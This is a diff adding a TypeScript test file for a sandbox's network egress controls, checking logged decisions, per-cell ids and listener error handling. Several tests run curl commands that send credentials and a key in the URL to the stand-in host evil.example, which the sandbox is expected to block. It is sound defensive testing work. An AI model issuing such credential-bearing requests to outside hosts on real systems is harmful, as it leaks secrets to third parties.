@@ -1,0 +1,64 @@
+import { setTimeout as sleep } from 'node:timers/promises'
+import { expect, it, vi } from 'vitest'
+import { startServer } from '../../../strands-shell/support/http-server.ts'
+import { cellHost } from './helpers.ts'
+
+it('events are plain data: the cell, the address without query and user, what was decided, how it ended', async () => {
+  const server = await startServer()
+  const { host, decisions, ends } = cellHost()
+  const sandbox = await host.open({ allowedUrls: [`${server.origin}/`] })
+  await sandbox.execute(`curl -s -d abc -u user:hush '${server.origin}/a?key=hush'`)
+  await sandbox.execute("curl -s 'http://user:hush@evil.example/b?key=hush#hush'")
+  await sandbox.execute("curl -s 'https://user:hush@evil.example/b?key=hush'")
+  expect(decisions).toEqual([
+    { allowed: true, cell: 'cell-1', method: 'POST', url: `${server.origin}/a`, address: '127.0.0.1' },
+    { allowed: false, cell: 'cell-1', method: 'GET', url: 'http://evil.example/b', reason: 'NOT_ALLOWED' },
+    { allowed: false, cell: 'cell-1', method: 'CONNECT', url: 'evil.example:443', reason: 'NOT_ALLOWED' },
+  ])
+  await vi.waitFor(() => expect(ends.length).toBe(1))
+  const end = {
+    cell: 'cell-1',
+    method: 'POST',
+    url: `${server.origin}/a`,
+    status: 200,
+    sent: 3,
+    received: 18,
+  }
+  expect(ends).toEqual([{ ...end, duration: expect.any(Number) }])
+  expect(structuredClone([...decisions, ...ends])).toEqual([...decisions, ...ends])
+  expect([...decisions, ...ends].every((data) => Object.isFrozen(data))).toBe(true)
+})
+
+it('each cell has an id of its own, and a cell that takes the place of another has a new one', async () => {
+  const { host, decisions } = cellHost({ maxCells: 2 })
+  const ask = async (url: string) => {
+    const sandbox = await host.open({ allowedUrls: [url] })
+    await sandbox.execute('curl -s http://evil.example/')
+    return sandbox
+  }
+  const first = await ask('http://a.example/')
+  await ask('http://b.example/')
+  const crash = await first.execute("jq -n 'def f: [f]; f'").catch((error: unknown) => error)
+  expect(crash).toMatchObject({ code: 'WORKER_LOST' })
+  await ask('http://c.example/')
+  expect(decisions.map(({ cell }) => cell)).toEqual(['cell-1', 'cell-2', 'cell-3'])
+})
+
+it('a listener that throws takes no request along', async () => {
+  const server = await startServer()
+  const { host } = cellHost()
+  const thrown: unknown[] = []
+  const listeners = process.listeners('uncaughtException')
+  process.removeAllListeners('uncaughtException')
+  process.on('uncaughtException', (error) => thrown.push(error.message))
+  host.on('egress', () => {
+    throw new Error('of a listener')
+  })
+  const sandbox = await host.open({ allowedUrls: [`${server.origin}/`] })
+  const { stdout } = await sandbox.execute(`curl -s ${server.origin}/x; curl -s http://evil.example/`)
+  await sleep(10)
+  process.removeAllListeners('uncaughtException')
+  for (const listener of listeners) process.on('uncaughtException', listener)
+  expect([stdout.startsWith('hello /x\n'), stdout.includes('NOT_ALLOWED')]).toEqual([true, true])
+  expect(thrown).toEqual(['of a listener', 'of a listener'])
+})
